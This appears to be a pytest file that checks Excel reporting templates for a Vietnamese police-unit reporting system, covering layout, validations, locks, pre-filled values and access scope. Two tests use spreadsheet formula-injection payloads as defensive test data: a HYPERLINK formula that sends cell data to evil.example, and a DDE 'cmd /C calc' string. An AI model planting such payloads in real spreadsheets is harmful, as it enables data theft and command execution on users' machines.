"""Excel templates: the golden structure (sheets, headers, hidden codes, drop-downs, locks),
pre-filled values, formula neutralisation, scope and refusals.

The structure is asserted cell by cell rather than byte for byte: openpyxl output differs by
timestamps, and what matters is what a person sees and what the reader relies on.
"""

import datetime as dt
import re

import pytest
from openpyxl.utils import get_column_letter

from kieumau.core.actors import CLI
from kieumau.core.errors import NotFound, ValidationFailed
from kieumau.datavalues.batch import Entry, apply_entries
from kieumau.datavalues.excel import build_template
from kieumau.datavalues.excel import layout as L
from kieumau.datavalues.excel.safe_text import FORMULA_TRIGGERS, put_text
from kieumau.datavalues.forms_catalog import FormCatalog
from kieumau.datavalues.services import set_values
from kieumau.orgunits.changes import Change
from kieumau.orgunits.services import apply_changes
from tests.datavalues import test_excel_support as support
from tests.datavalues.test_excel_support import (
    MAY,
    MAY_SHEET,
    MONTHLY_CODES,
    may_template,
    open_book,
    part,
    save_book,
)

# Fixtures shared by the Excel tests.
extra_form = support.extra_form


def validations_by_column(ws) -> dict[str, object]:
    out = {}
    for dv in ws.data_validations.dataValidation:
        for ref in str(dv.sqref).split():
            out[re.match(r"[A-Z]+", ref).group()] = dv
    return out


def test_golden_monthly_province_template(hierarchy, forms):
    wb = open_book(may_template())
    assert wb.sheetnames == [MAY_SHEET, "_kieumau"]
    assert wb[MAY_SHEET].sheet_state == "visible"
    assert wb["_kieumau"].sheet_state == "veryHidden"
    assert wb.active.title == MAY_SHEET
    assert wb.security.lockStructure
    ws = wb[MAY_SHEET]

    assert ws["B1"].value == "Báo cáo tháng kết quả xây dựng Công an phường điển hình, kiểu mẫu"
    assert ws["B2"].value == (
        "Kỳ báo cáo: tháng 5/2025 (2025-05) — Các đơn vị cấp xã thuộc Tỉnh A (A): 2 đơn vị"
    )
    assert "Ô để trống là chưa có số liệu" in ws["B3"].value
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"B1:K1", "B2:K2", "B3:K3", "B4:C4", "D4:G4", "H4:K4"} <= merged
    assert all(int(re.findall(r"\d+", r)[-1]) <= L.SECTION_ROW for r in merged)

    assert [ws.cell(row=4, column=c).value for c in (2, 4, 8)] == [
        "Đơn vị",
        "5. Công tác phòng, chống tội phạm",
        "7. Công tác cải cách hành chính",
    ]
    assert [ws[f"{c}5"].value for c in "BCD"] == [
        "STT",
        "Tên đơn vị",
        "Số tin báo, tố giác tội phạm tiếp nhận",
    ]
    assert ws["D6"].value == "tin; số nguyên ≥ 0"
    assert ws["F6"].value == "tỷ lệ % từ 0 đến 100; không bắt buộc"
    assert [ws.cell(row=7, column=c).value for c in range(4, 12)] == MONTHLY_CODES
    assert ws["L7"].value is None
    assert ws.row_dimensions[7].hidden
    assert ws.column_dimensions["A"].hidden

    assert [[ws.cell(row=r, column=c).value for c in (1, 2, 3)] for r in (8, 9)] == [
        ["A-W1", 1, "Phường Một"],
        ["A-W2", 2, "Phường Hai"],
    ]
    assert all(ws.cell(row=10, column=c).value is None for c in range(1, 12))
    assert all(ws.cell(row=r, column=c).value is None for r in (8, 9) for c in range(4, 12))
    assert ws.freeze_panes == "D8"

    assert ws.protection.sheet
    assert ws.protection.password is None
    for ref in ("A8", "B8", "C8", "D5", "D6", "D7", "B1", "L8", "D10"):
        assert ws[ref].protection.locked, ref
    for ref in ("D8", "K8", "D9", "K9"):
        assert not ws[ref].protection.locked, ref

    checks = validations_by_column(ws)
    assert sorted(checks) == list("DEFGHIJK")
    received = checks["D"]
    assert (received.type, received.operator, received.formula1) == ("whole", "between", "0")
    assert str(received.sqref) == "D8:D9"
    assert received.showErrorMessage and received.showInputMessage
    assert received.prompt == "Số tin báo, tố giác tội phạm tiếp nhận: tin; số nguyên ≥ 0"
    assert received.error == "Hãy nhập số nguyên ≥ 0."
    pct = checks["F"]
    assert (pct.type, pct.formula1, pct.formula2) == ("decimal", "0", "100")
    assert ws["D8"].number_format == "#,##0"


def test_the_hidden_sheet_records_the_layout_under_its_hash(hierarchy, forms):
    wb = open_book(may_template())
    rows = [
        tuple("" if v is None else v for v in row)
        for row in wb["_kieumau"].iter_rows(max_col=4, values_only=True)
    ]
    assert rows[0] == ("kieumau-template", "1", "", "")
    assert rows[1] == ("scope", "under", "A", "")
    assert rows[2] == ("sheet", MAY_SHEET, "BC-THANG", MAY)
    assert rows[-1][0] == "sha256"
    assert rows[-1][1] == L.digest(rows[:-1])
    layout = L.decode(rows)
    (sheet,) = layout.sheets
    assert sheet.units == ("A-W1", "A-W2")
    assert list(sheet.indicators) == MONTHLY_CODES
    assert (sheet.last_row, sheet.last_col) == (9, 11)
    assert wb["_kieumau"].protection.sheet


def test_yearly_template_has_drop_downs_for_choices_and_yes_no(hierarchy, forms):
    wb = open_book(build_template(actor=CLI, unit_code="A-W1", period_code="2025"))
    assert wb.sheetnames == ["BC-NAM 2025", "_kieumau"]
    ws = wb["BC-NAM 2025"]
    assert ws["B2"].value == "Kỳ báo cáo: năm 2025 (2025) — Đơn vị: Phường Một (A-W1)"
    codes = [ws.cell(row=7, column=c).value for c in range(4, ws.max_column + 1)]
    form = FormCatalog.load().by_code("BC-NAM")
    assert codes == [form.code_of[i] for i in form.indicator_ids]
    assert len(codes) == 69
    letter = {code: get_column_letter(4 + i) for i, code in enumerate(codes)}
    checks = validations_by_column(ws)
    meta = wb["_kieumau"]

    def listed(dv) -> list[str]:
        sheet, cells = dv.formula1.split("!")
        assert sheet == "'_kieumau'"
        first, last = cells.replace("$", "").split(":")
        return [c.value for row in meta[first:last] for c in row]

    rating = checks[letter["party_committee_rating"]]
    assert rating.type == "list"
    assert listed(rating) == [
        "Không hoàn thành nhiệm vụ",
        "Hoàn thành nhiệm vụ",
        "Hoàn thành tốt nhiệm vụ",
        "Hoàn thành xuất sắc nhiệm vụ",
    ]
    assert ws[f"{letter['party_committee_rating']}6"].value == "chọn trong danh sách"
    yes_no = checks[letter["own_headquarters"]]
    assert (yes_no.type, listed(yes_no)) == ("list", ["Có", "Không"])
    assert ws[f"{letter['own_headquarters']}6"].value == "Có / Không"
    assert yes_no.error == "Hãy chọn Có hoặc Không."
    families = checks[letter["families"]]
    assert (families.type, families.formula1) == ("whole", "0")
    # One list per distinct set of choices, however many columns use it.
    formulas = {dv.formula1 for dv in checks.values() if dv.type == "list"}
    assert len(formulas) == 4  # two ratings share a list; two titles; yes/no


def test_known_values_are_prefilled_as_people_would_type_them(hierarchy, forms):
    set_values(
        actor=CLI,
        unit_code="A-W2",
        period_code=MAY,
        values={"crime_reports_received": "1.234", "crime_reports_on_time_pct": "92,5"},
    )
    set_values(
        actor=CLI,
        unit_code="A-W1",
        period_code="2025",
        values={"party_committee_rating": "Hoàn thành tốt nhiệm vụ", "own_headquarters": "không"},
    )
    ws = open_book(may_template())[MAY_SHEET]
    assert (ws["D9"].value, ws["F9"].value) == (1234, 92.5)
    assert ws["D8"].value is None
    year = open_book(build_template(actor=CLI, under_code="A", period_code="2025"))["BC-NAM 2025"]
    codes = {year.cell(row=7, column=c).value: c for c in range(4, year.max_column + 1)}
    assert year.cell(row=8, column=codes["party_committee_rating"]).value == (
        "Hoàn thành tốt nhiệm vụ"
    )
    assert year.cell(row=8, column=codes["own_headquarters"]).value == "Không"


def test_dates_and_text_columns(extra_form):
    apply_entries(
        actor=CLI,
        entries=[
            Entry("A-W1", "inspection_date", MAY, "14/05/2025"),
            Entry("A-W1", "inspection_note", MAY, '=HYPERLINK("http://x";"bấm")'),
        ],
        source="test",
    )
    wb = open_book(may_template())
    assert wb.sheetnames == ["BC-THANG 2025-05", "BC-THU 2025-05", "_kieumau"]
    ws = wb["BC-THU 2025-05"]
    assert (ws["D6"].value, ws["E6"].value) == ("ngày (dd/mm/yyyy)", "văn bản")
    assert ws["D8"].value == dt.datetime(2025, 5, 14)
    assert ws["D8"].number_format == "DD/MM/YYYY"
    checks = validations_by_column(ws)
    assert checks["D"].type == "date"
    assert (checks["E"].type, checks["E"].operator, checks["E"].formula1) == (
        "textLength",
        "lessThanOrEqual",
        "2000",
    )
    note = ws["E8"]
    assert note.value == '=HYPERLINK("http://x";"bấm")'
    assert note.data_type == "s"
    assert note.quotePrefix


def test_text_that_looks_like_a_formula_is_exported_as_text(hierarchy, forms):
    apply_changes(
        actor=CLI,
        changes=[
            Change(
                row=1,
                action="create",
                code="A-W3",
                effective_date=dt.date(2020, 1, 1),
                name='=HYPERLINK("http://evil.example/?"&A1;"Phường Ba")',
                kind="ward",
                parent_code="A",
            )
        ],
        name="test",
    )
    data = may_template()
    cell = open_book(data)[MAY_SHEET]["C10"]
    assert cell.value.startswith("=HYPERLINK")
    assert cell.data_type == "s"
    assert cell.quotePrefix
    sheet_xml = part(data, "xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    assert b"HYPERLINK" in sheet_xml


@pytest.mark.parametrize("first", [*FORMULA_TRIGGERS, "x"])
def test_put_text_never_writes_a_formula(first):
    import openpyxl

    wb = openpyxl.Workbook()
    text = f"{first}1+cmd|' /C calc'!A0"
    put_text(wb.active["A1"], text)
    put_text(wb.active["A2"], "bell\x07 removed")
    data = save_book(wb)
    assert b"<f>" not in part(data, "xl/worksheets/sheet1.xml")
    cell = open_book(data).active["A1"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert cell.quotePrefix == (first != "x")
    assert open_book(data).active["A2"].value == "bell removed"


def test_several_periods_follow_the_reorganisation(hierarchy, forms):
    wb = open_book(build_template(actor=CLI, under_code="A", period_codes=["2025-06", "2025-07"]))
    assert wb.sheetnames == ["BC-THANG 2025-06", "BC-THANG 2025-07", "_kieumau"]

    def units(name):
        ws = wb[name]
        return [ws.cell(row=r, column=1).value for r in range(8, ws.max_row + 1)]

    assert units("BC-THANG 2025-06") == ["A-W1", "A-W2"]
    assert units("BC-THANG 2025-07") == ["A-W1", "A-W9"]


def test_a_quarter_gets_the_quarterly_form_only(hierarchy, forms):
    wb = open_book(build_template(actor=CLI, unit_code="A-W1", period_code="2025Q2"))
    assert wb.sheetnames == ["BC-QUY 2025Q2", "_kieumau"]
    assert wb["BC-QUY 2025Q2"]["D7"].value == "progress_hearings_held"


def test_scope_decides_which_templates_one_may_download(hierarchy, forms, make_user):
    officer = make_user("unit_officer", "A-W1")
    assert open_book(build_template(actor=officer, unit_code="A-W1", period_code=MAY))
    for kwargs in ({"under_code": "A"}, {"unit_code": "A-W2"}, {"unit_code": "KHONG"}):
        with pytest.raises(NotFound) as exc:
            build_template(actor=officer, period_code=MAY, **kwargs)
        assert "không tìm thấy đơn vị" in exc.value.summary()
    other = make_user("province_admin", "C")
    with pytest.raises(NotFound):
        build_template(actor=other, under_code="A", period_code=MAY)
    assert open_book(build_template(actor=other, under_code="C", period_code=MAY))


@pytest.mark.parametrize(
    ("kwargs", "message", "field"),
    [
        ({"under_code": "A", "period_code": "2025-13"}, "", "period"),
        ({"under_code": "A"}, "thiếu kỳ báo cáo", "period"),
        (
            {"under_code": "A", "period_codes": [f"2025-{m:02d}" for m in range(1, 13)] + ["2026"]},
            "tối đa 12 kỳ",
            "period",
        ),
        ({"unit_code": "A-W1", "under_code": "A", "period_code": MAY}, "chọn đúng một", "unit"),
        ({"period_code": MAY}, "chọn đúng một", "unit"),
        (
            {"unit_code": "A", "period_code": MAY},
            "không có biểu mẫu báo cáo nào áp dụng cho đơn vị 'A' kỳ 2025-05 (dùng --under",
            None,
        ),
        (
            {"unit_code": "A-W9", "period_code": MAY},
            "đơn vị 'A-W9' không tồn tại trong kỳ 2025-05",
            None,
        ),
        (
            {"under_code": "A", "period_code": "2025H1"},
            "không có biểu mẫu báo cáo nào áp dụng cho các đơn vị trực thuộc 'A' kỳ 2025H1",
            None,
        ),
    ],
)
def test_impossible_requests_are_refused_with_a_reason(hierarchy, forms, kwargs, message, field):
    with pytest.raises(ValidationFailed) as exc:
        build_template(actor=CLI, **kwargs)
    (problem,) = exc.value.problems
    assert message in problem.message
    assert problem.message
    assert problem.field == field


def test_sheet_names_stay_valid_and_unique():
    taken: set[str] = set()
    assert L.sheet_name("BC-THANG", "2025-05", taken) == "BC-THANG 2025-05"
    long = L.sheet_name("BIỂU/MẪU:RẤT*DÀI?[QUÁ]'MỨC-CHO-PHÉP", "2025-05", taken)
    assert len(long) <= 31
    assert not set("[]:*?/\\'") & set(long)
    again = L.sheet_name("BIỂU/MẪU:RẤT*DÀI?[QUÁ]'MỨC-CHO-PHÉP", "2025-05", taken)
    assert again != long and len(again) <= 31
